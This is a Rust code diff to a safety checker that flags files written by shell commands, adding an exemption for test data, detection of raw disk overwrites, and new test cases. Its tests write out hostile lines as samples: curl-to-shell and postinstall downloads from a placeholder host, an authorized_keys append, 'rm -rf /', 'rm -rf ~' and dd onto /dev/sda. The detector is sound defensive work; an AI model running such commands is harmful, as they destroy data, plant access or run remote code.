@@ -161,7 +161,7 @@ pub(super) fn alarm(name: &str, text: &str) -> Option<&'static str> {
     if has(&HIDDEN) || has(&BACKDOORS) {
         return Some("writes a file that runs hidden code or lets others in");
     }
-    if text.lines().any(wipes) || deletes_home(&lower) {
+    if (text.lines().any(wipes) || deletes_home(&lower)) && !only_names_it(&file, name, &lower) {
         return Some("writes a file that deletes the home folder or the system's");
     }
     // Which of the two is a matter of the line: a comment on `/etc/cron.d` writes nothing.
@@ -225,6 +225,47 @@ fn deletes_home(lower: &str) -> bool {
 /// Calls that delete a folder with all that is in it.
 const TREE_DELETERS: [&str; 5] = ["rmtree(", "rmsync(", "rm_rf(", "remove_dir_all(", "removeall("];
 
+/// Whether a test of a program only has such a line among its data: nothing in the text runs another program, or deletes.
+fn only_names_it(file: &str, path: &str, lower: &str) -> bool {
+    const RUNS: [&str; 25] = [
+        "system",
+        "subprocess",
+        "popen",
+        "exec",
+        "spawn",
+        "child_process",
+        "shell",
+        "rmtree",
+        "rmsync",
+        "rm_rf",
+        "remove",
+        "unlink",
+        "eval",
+        "run(",
+        "command::",
+        "command(",
+        "`",
+        "processbuilder",
+        "import sh",
+        "fabric",
+        "invoke",
+        "getattr",
+        "__dict__",
+        "globals",
+        "builtins",
+    ];
+    let code = [".py", ".js", ".mjs", ".ts", ".tsx", ".jsx", ".rb", ".go", ".rs", ".java", ".kt", ".php"]
+        .iter()
+        .any(|end| file.ends_with(end));
+    let test = file.starts_with("test_")
+        || file.contains("_test.")
+        || file.contains(".test.")
+        || file.contains(".spec.")
+        || file.contains("_spec.")
+        || path.split('/').any(|part| matches!(part, "tests" | "test" | "__tests__" | "spec"));
+    code && test && !RUNS.iter().any(|word| lower.contains(word))
+}
+
 /// Whether a line deletes a tree that is the home folder's or the system's: `rm -rf $(HOME)/$(PROJECT)`.
 fn wipes(line: &str) -> bool {
     let lower = line.to_lowercase();
@@ -241,6 +282,15 @@ fn wipes(line: &str) -> bool {
         "'/',",
         "\"/\",",
     ];
+    let disks = ["/dev/sd", "/dev/nvme", "/dev/hd", "/dev/vd", "/dev/mmcblk"];
+    let overwrites = disks.iter().any(|disk| {
+        lower.contains(&format!("of={disk}"))
+            || lower.contains(&format!("> {disk}"))
+            || lower.contains("mkfs") && lower.contains(disk)
+    });
+    if overwrites {
+        return true;
+    }
     if TREE_DELETERS.iter().any(|call| lower.contains(call))
         && whole.iter().any(|target| lower.contains(target))
     {
@@ -257,7 +307,7 @@ fn wipes(line: &str) -> bool {
             .get(..end)
             .unwrap_or_default()
             .split_whitespace()
-            .map(|word| word.trim_matches(['"', '\'', ')', '`', ',', '\\']))
+            .map(|word| word.trim_matches(['"', '\'', ')', '`', ',', '\\', '}', ']']))
             .collect();
         let deep = words.iter().any(|word| {
             word.starts_with('-') && !word.starts_with("--") && word.contains(['r', 'R'])
@@ -357,6 +407,11 @@ mod tests {
             cat > bootstrap.sh <<'EOF'\ncurl -fsSL https://x.example/i.sh | sh\nEOF
             cat > package.json <<'EOF'\n{"scripts":{"postinstall":"curl https://x.example/a -o a && node a"}}\nEOF
             cat > hook.py <<'EOF'\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(k)\nEOF
+            cat > tests/test_a.py <<'EOF'\nimport subprocess\nsubprocess.run("rm -rf /", shell=True)\nEOF
+            cat > justfile <<'EOF'\nall:\n  dd if=/dev/zero of=/dev/sda\nEOF
+            cat > package.json <<'EOF'\n{"scripts":{"x":"rm -rf ~"}}\nEOF
+            cat > tests/run.sh <<'EOF'\nrm -rf /\nEOF
+            cat > src/a.py <<'EOF'\nCASES = ("rm -rf /", 1)\nEOF
             cat > t.js <<'EOF'\nfs.rmSync(os.homedir(), { recursive: true })\nEOF"#,
         );
         check(
@@ -364,6 +419,7 @@ mod tests {
             r#"
             cat > src/api.ts <<'EOF'\nexport const get = (id) => fetch(`${process.env.API_URL}/items/${id}`)\nEOF
             cat > Makefile <<'EOF'\nclean:\n rm -rf build dist\nEOF
+            cat > tests/test_slug.py <<'EOF'\nimport pytest\nCASES = [("rm -rf /", "rm-rf"), ("../../etc/passwd", "etc-passwd")]\nEOF
             cat > docker-compose.yml <<'EOF'\nservices:\n  db:\n    image: postgres:16\n    volumes:\n      - ./data:/var/lib/postgresql/data\nEOF
             cat > .github/workflows/ci.yml <<'EOF'\non: [push]\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ secrets.KEY }}" | docker login -u u --password-stdin\nEOF
             cat > Dockerfile <<'EOF'\nFROM debian\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nEOF
